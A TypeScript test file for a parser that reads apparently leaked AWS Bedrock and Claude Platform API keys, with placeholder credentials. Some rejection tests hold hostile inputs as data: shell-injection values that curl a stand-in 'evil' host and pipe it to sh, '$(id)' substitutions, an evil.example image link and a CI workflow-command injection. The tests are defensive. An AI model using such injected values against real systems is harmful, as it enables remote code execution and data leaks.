import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readLeakedKey, serviceNameOf } from './leak.ts';

const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');

const signed = (service: string, token = '') =>
  `${service}.amazonaws.com/?Action=CallWithBearerToken&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIATZY6AEXHK4TDFY3E%2F20260101%2Fus-west-2%2F${service}%2Faws4_request&X-Amz-Date=20260101T120000Z&X-Amz-Expires=3600${token}&X-Amz-Signature=00&X-Amz-SignedHeaders=host&Version=1`;
const TOKEN = '&X-Amz-Security-Token=IQoJ';

describe('a long-term key', () => {
  it.each([
    ['bedrock', `ABSK${base64('BedrockAPIKey-x1y2-at-123456789012:secret')}`],
    // AEAA is part of the base64: it begins with the bytes 00 40 00.
    ['claude-platform', base64('\0@\0BedrockAPIKey-x1y2-at-123456789012:secret')],
  ] as const)('of %s says its user and account', (service, text) => {
    expect(readLeakedKey(text)).toEqual({
      kind: 'long-term',
      service,
      alias: 'BedrockAPIKey-x1y2-at-123456789012',
      userName: 'BedrockAPIKey-x1y2',
      accountId: '123456789012',
    });
  });

  it('of Claude Platform begins with AEAA, and is a credential of its own service in IAM', () => {
    expect(base64('\0@\0AeaApiKey-1-at-123456789012:s')).toMatch(/^AEAA/);
    expect(serviceNameOf('claude-platform')).toBe('aws-external-anthropic.amazonaws.com');
    expect(serviceNameOf('bedrock')).toBe('bedrock.amazonaws.com');
  });

  it('that is the second of its user is of the same user', () => {
    const text = `ABSK${base64('ci+1-at-123456789012:secret')}`;
    expect(readLeakedKey(text)).toMatchObject({ userName: 'ci', alias: 'ci+1-at-123456789012' });
  });
});

describe('a text that somebody made up', () => {
  it('is a key or none, and never an error', () => {
    const prefix = fc.constantFrom(
      '',
      'ABSK',
      'AEAA',
      'bedrock-api-key-',
      'aws-external-anthropic-api-key-',
    );
    const text = fc.oneof(fc.string(), fc.string().map(base64), fc.base64String());
    fc.assert(
      fc.property(prefix, text, (before, rest) => {
        const leak = readLeakedKey(before + rest);
        if (leak?.kind === 'long-term') expect(leak.userName).toMatch(/^[\w+=,.@-]{1,64}$/);
      }),
    );
  });

  it.each([
    'x;curl$IFS-L$IFS.evil|sh;-at-123456789012',
    '$(id)-at-123456789012',
    '--help`id`-at-123456789012',
    `${'a'.repeat(65)}-at-123456789012`,
    '![x](//evil.example/x.png)-at-123456789012',
    "a'b-at-123456789012",
  ])('of a user whose name IAM does not give is no key: %s', (alias) => {
    expect(readLeakedKey(`ABSK${base64(`${alias}:secret`)}`)).toBeUndefined();
    expect(readLeakedKey(base64(`\0@\0${alias}:secret`))).toBeUndefined();
  });

  it.each([
    ['ASIATZY6AEXHK4TDFY3E', 'ASIA;curl$IFS.evil|sh'],
    ['ASIATZY6AEXHK4TDFY3E', 'ASIA%0A::error::x'],
    ['us-west-2', 'evil.example%23'],
    ['us-west-2', 'x%40evil.example'],
    ['us-west-2', '..'],
  ])('with another thing than %s is no key: %s', (name, other) => {
    for (const token of ['', TOKEN]) {
      const text = signed('bedrock', token).replace(name, other);
      expect(readLeakedKey(`bedrock-api-key-${base64(text)}`)).toBeUndefined();
    }
  });
});

describe('a short-term key', () => {
  it.each([
    ['bedrock', `bedrock-api-key-${base64(signed('bedrock', TOKEN))}`],
    [
      'claude-platform',
      `aws-external-anthropic-api-key-${base64(signed('aws-external-anthropic', TOKEN))}`,
    ],
  ] as const)('of %s says account, region and times', (service, text) => {
    expect(readLeakedKey(text)).toEqual({
      kind: 'short-term',
      service,
      accessKeyId: 'ASIATZY6AEXHK4TDFY3E',
      signedBy: 'session',
      accountId: '261519058382',
      region: 'us-west-2',
      issuedAt: new Date('2026-01-01T12:00:00Z'),
      expiresAt: new Date('2026-01-01T13:00:00Z'),
    });
  });

  it('without a session token was signed by an access key', () => {
    const text = `bedrock-api-key-${base64(signed('bedrock'))}`;
    expect(readLeakedKey(text)).toMatchObject({ signedBy: 'access-key' });
  });
});

it.each([
  ['nothing', ''],
  ['another secret', 'sk-ant-api03-0123456789'],
  ['base64 that begins in the same way', `ABSK${base64('no colon in here')}`],
  ['a prefix alone', 'bedrock-api-key-'],
  ['what is no base64', 'aws-external-anthropic-api-key-%%%'],
  [
    'a key whose prefix is of the other service',
    `bedrock-api-key-${base64(signed('aws-external-anthropic'))}`,
  ],
  [
    'a key whose host is of the other service',
    `aws-external-anthropic-api-key-${base64(signed('bedrock'))}`,
  ],
])('%s is no key', (_, text) => {
  expect(readLeakedKey(text)).toBeUndefined();
});
